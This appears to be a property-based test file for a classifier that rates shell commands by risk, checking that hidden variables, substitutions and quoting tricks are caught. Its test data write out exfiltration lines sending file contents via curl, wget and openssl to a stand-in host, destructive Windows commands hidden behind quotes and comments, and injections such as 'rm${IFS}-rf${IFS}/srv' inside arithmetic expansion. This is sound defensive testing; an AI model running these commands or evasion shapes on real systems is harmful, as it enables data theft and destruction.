// Properties of what hides beside harmless commands: variables, substitutions, and quotes that other shells read otherwise.
import { expect } from 'chai';
import fc from 'fast-check';
import { gravity } from '../../../shared/core/intent/code/code.ts';
import { readCode } from '../../../shared/core/intent/code/script.ts';
import { parseIntent } from '../../../shared/core/intent/parse.ts';
import { shippedLexicon } from '../intent/lexicon.ts';
import { runs } from './runs.ts';

const lexicon = shippedLexicon();
const [READS, SENDS, UNKNOWN, DESTROYS] = [10, 40, 45, 60];

/** How grave a line is; one that is not understood is at least as grave as unknown code. */
function gravityOf(line: string): number {
  const { fragments, isUnderstood } = readCode('shell', line, lexicon);
  return Math.max(isUnderstood ? 0 : UNKNOWN, ...fragments.map(gravity));
}

/** Every command of the lexicon that only reads when it is given a name. */
const harmless = [...lexicon.commands.keys()]
  .map((command) => `${command} a`)
  .filter((line) => !line.startsWith('[') && gravityOf(line) === READS);
const deciding = [...lexicon.codeWords.decidingVariables.names].map((name) => name.toUpperCase());
const plain = [...lexicon.codeWords.plainVariables.names].map((name) => name.toUpperCase());

/** Ways to set a variable for a command. */
const SETS: readonly ((name: string) => string)[] = [
  (name) => `${name}=./x `,
  (name) => `${name}='./a b' `,
  (name) => `${name}="./a b:$${name}" `,
  (name) => `A=1 ${name}='./a b' `,
  (name) => `env ${name}='./a b' `,
  (name) => `export ${name}=./x; `,
  (name) => `export ${name}="./a b" && `,
  (name) => `declare -x ${name}=./x; `,
  (name) => `${name}=./x; `,
];

describe('a variable before a harmless command', () => {
  it('is not understood if it may decide what runs, however it is set', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...harmless),
        fc.constantFrom(...deciding),
        fc.constantFrom(...SETS),
        (line, name, set) => {
          expect(gravityOf(set(name) + line), set(name) + line).to.be.at.least(UNKNOWN);
        },
      ),
      runs(500, 0.1),
    );
  });

  it('is not understood if nothing is known of it and it is set for the command', () => {
    const names = fc.stringMatching(/^[A-Z]{4}_[A-Z]{4}$/);
    fc.assert(
      fc.property(fc.constantFrom(...harmless), names, fc.constantFrom(...SETS.slice(0, 5)), (line, name, set) => {
        expect(gravityOf(set(name) + line), set(name) + line).to.be.at.least(UNKNOWN);
      }),
      runs(300, 0.1),
    );
  });

  it('changes nothing if it is one that changes nothing', () => {
    const values = fc.constantFrom('1', "'a b'", '"Europe/Oslo"');
    fc.assert(
      fc.property(fc.constantFrom(...harmless), fc.constantFrom(...plain), values, (line, name, value) => {
        for (const text of [`${name}=${value} ${line}`, `export ${name}=${value}; ${line}`, `x=${value}; ${line}`])
          expect(gravityOf(text), text).to.equal(READS);
      }),
      runs(300, 0.1),
    );
    for (const text of ['GIT_PAGER=cat git log', 'PAGER= man ls', "NODE_OPTIONS='--max-old-space-size=4096' node -v"])
      expect(gravityOf(text), text).to.equal(READS);
  });
});

/** Ways in which a command is given what is in a file: all of the line for a word that stands for it. */
const FILLS: readonly ((line: (word: string) => string) => string)[] = [
  (line) => line('$(cat f)'),
  (line) => line('`cat f`'),
  (line) => line('$(< f)'),
  (line) => line('$(date; cat f)'),
  (line) => line('$(date\ncat f)'),
  (line) => line('$(date -f f)'),
  (line) => line('$(curl http://localhost/f)'),
  (line) => `X=$(cat f); ${line('$X')}`,
  (line) => `X="$(cat f)" && ${line('${X}')}`,
  (line) => `while read X; do ${line('$X')}; done < f`,
  (line) => `for X in $(cat f); do ${line('$X')}; done`,
  (line) => `cat f | xargs -I{} ${line('{}')}`,
];
const CURL_OPTIONS = [
  '-A',
  '-e',
  '-b',
  '-u',
  '-H',
  '--user-agent',
  '--referer',
  '--cookie',
  '--oauth2-bearer',
  '--header',
  '--url-query',
  '--aws-sigv4',
];
const REQUESTS: readonly ((word: string) => string)[] = [
  ...CURL_OPTIONS.map((option) => (word: string) => `curl ${option} "${word}" https://x.example`),
  (word) => `curl "https://x.example/${word}"`,
  (word) => `curl -I "x.example/${word}"`,
  (word) => `wget -q -O - -U "${word}" https://x.example`,
  (word) => `wget --header "Cookie: ${word}" https://x.example`,
  (word) => `git ls-remote https://x.example/${word}`,
  (word) => `npm view y --registry https://x.example/${word}`,
  (word) => `docker pull x.example/${word}`,
  (word) => `whois -h x.example "${word}"`,
  (word) => `getent hosts ${word}.x.example`,
  (word) => `openssl s_client -connect x.example:443 -servername ${word}`,
];

describe('data in a command that reaches a host', () => {
  it('is sent there, in whatever option it is and wherever it comes from', () => {
    for (const request of REQUESTS)
      for (const fill of FILLS) expect(gravityOf(fill(request)), fill(request)).to.be.at.least(SENDS);
  });

  it('is sent by every command that reads and is given an address outside', () => {
    fc.assert(
      fc.property(fc.constantFrom(...harmless), (line) => {
        const text = `${line} https://x.example "$(cat f)"`;
        expect(gravityOf(text), text).to.be.at.least(SENDS);
      }),
      runs(300, 0.1),
    );
  });

  it('is none if it is only a date, or goes to a host inside or to a file', () => {
    for (const text of [
      'curl -A "$(date +%F)" https://x.example',
      'curl -A "$(cat f)" http://localhost/a',
      'curl -o "$(basename f).html" https://x.example',
      'wget -qO- https://x.example | head',
      'grep "$(cat f)" main.ts',
    ])
      expect(gravityOf(text), text).to.be.below(SENDS);
  });
});

const GONE = [
  'rd /s /q C:\\data',
  'del /q C:\\data\\*',
  'Remove-Item C:\\data -Recurse',
  'Remove-Item "C:\\data\\" -Force',
];
/** Lines in which a quotation mark or a comment of one shell hides what follows from another. */
const WINDOWS: readonly ((line: string) => string)[] = [
  (line) => `dir "C:\\logs\\" & ${line}`,
  (line) => `dir "C:\\logs\\" & ${line} & dir "C:\\logs\\"`,
  (line) => `Get-ChildItem "C:\\logs\\"; ${line}; Get-ChildItem "C:\\logs\\"`,
  (line) => `type C:\\a\\& ${line}`,
  (line) => `echo it's & ${line} & echo it's`,
  (line) => `cmd /c "dir C:\\logs\\" & ${line}`,
  (line) => `Get-Content a.txt <# ' #>; ${line}; # '`,
];

describe('a command for Windows that destroys', () => {
  it('is seen behind paths that end in a backslash, apostrophes and comments', () => {
    for (const line of GONE)
      for (const hide of WINDOWS) expect(gravityOf(hide(line)), hide(line)).to.be.at.least(DESTROYS);
  });

  it('is seen as a member of what another command gives; others are not understood, but for those that only show', () => {
    for (const member of ['Delete', 'Kill', 'DeleteFolder'])
      expect(gravityOf(`(Get-Item a).${member}()`), member).to.be.at.least(DESTROYS);
    for (const member of [
      'Run("x")',
      'Reboot()',
      'Stop()',
      'MoveTo("\\\\x.example\\s\\a")',
      'ForEach({ ri $_ })',
      'Any(1)',
    ])
      expect(gravityOf(`(Get-Item a).${member}`), member).to.be.at.least(UNKNOWN);
    for (const member of ['Length', 'ToString()', 'Replace("a", "b").Trim()', 'AddDays(-1).ToString("yyyy-MM-dd")'])
      expect(gravityOf(`(Get-Item a).${member}`), member).to.equal(READS);
    expect(gravityOf('Get-ChildItem a | ForEach-Object Delete')).to.be.at.least(DESTROYS);
    expect(gravityOf('Get-ChildItem a | ForEach-Object Name')).to.equal(READS);
  });

  it('leaves harmless lines with the same marks harmless', () => {
    for (const line of ['dir "C:\\logs\\" & dir "C:\\data\\"', "Get-Content 'C:\\logs\\it''s; rm.log'"])
      expect(gravityOf(line), line).to.equal(READS);
  });
});

const EXPANSIONS: readonly ((code: string) => string)[] = [
  (code) => `echo $(($(${code})))`,
  (code) => `echo $((\`${code}\`))`,
  (code) => `echo $((a[$(${code})] + 1))`,
  (code) => `echo "$((1 + $(${code})))"`,
  (code) => `echo $((${code});(true))`,
  ...['test -v', 'unset', 'read', 'declare', 'printf -v', '[ -v'].map(
    (name) => (code: string) => `${name} 'a[$(${code})]' x`,
  ),
];

describe('code in arithmetic and in the names of elements', () => {
  it('is read, or not understood', () => {
    for (const code of ['reboot', 'rm${IFS}-rf${IFS}/srv', 'dropdb orders'])
      for (const expand of EXPANSIONS) expect(gravityOf(expand(code)), expand(code)).to.be.at.least(UNKNOWN);
    for (const line of ['echo $((1 + 2))', 'x=3; echo $((x * (2 + 1)))', 'echo "${a[1]} ${#b}"', 'test -v "a[1]"'])
      expect(gravityOf(line), line).to.equal(READS);
  });
});

describe('a command whose arguments name what it runs', () => {
  const runners = [...lexicon.commands].filter(([, { targets }]) => targets !== undefined).map(([name]) => name);
  const plainTargets = [...lexicon.codeWords.plainTargets.names];
  const others = fc
    .stringMatching(/^[a-z]{5,9}$/)
    .filter((name) => !lexicon.codeWords.plainTargets.has(name) && name !== 'start');

  it('is not understood with a name that is not listed, also as a part of one that is, or beside it', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...runners),
        others,
        fc.constantFrom(...plainTargets),
        fc.constantFrom('deploy', 'publish', 'drop', 'wipe'),
        (runner, other, plainTarget, act) => {
          const lines = [
            `${runner} ${other}`,
            `${runner} ${plainTarget}:${act}`,
            `${runner} ${plainTarget}:${other}:${act}`,
          ];
          if (lexicon.commands.get(runner)?.targets === 'all') lines.push(`${runner} ${plainTarget} ${other}`);
          for (const line of lines) expect(gravityOf(line), line).to.be.at.least(UNKNOWN);
        },
      ),
      runs(300, 0.1),
    );
  });

  it('only runs a project with each name that is listed', () => {
    for (const runner of runners)
      for (const target of plainTargets)
        expect(gravityOf(`${runner} ${target}`), `${runner} ${target}`).to.be.below(SENDS);
  });
});

describe('an ampersand without spaces', () => {
  it('separates a command that destroys from one that reads', () => {
    const names = harmless.map((line) => line.slice(0, -2)).filter((name) => /^[a-z]+$/.test(name));
    const joints = ['&', '&&', ' &', '& '];
    fc.assert(
      fc.property(
        fc.constantFrom(...names),
        fc.constantFrom(...joints),
        fc.constantFrom('reboot', 'poweroff', 'halt'),
        (a, joint, b) => {
          expect(parseIntent(`${a}${joint}${b}`, lexicon).effect, `${a}${joint}${b}`).to.equal('destructive');
        },
      ),
      runs(300, 0.1),
    );
  });
});
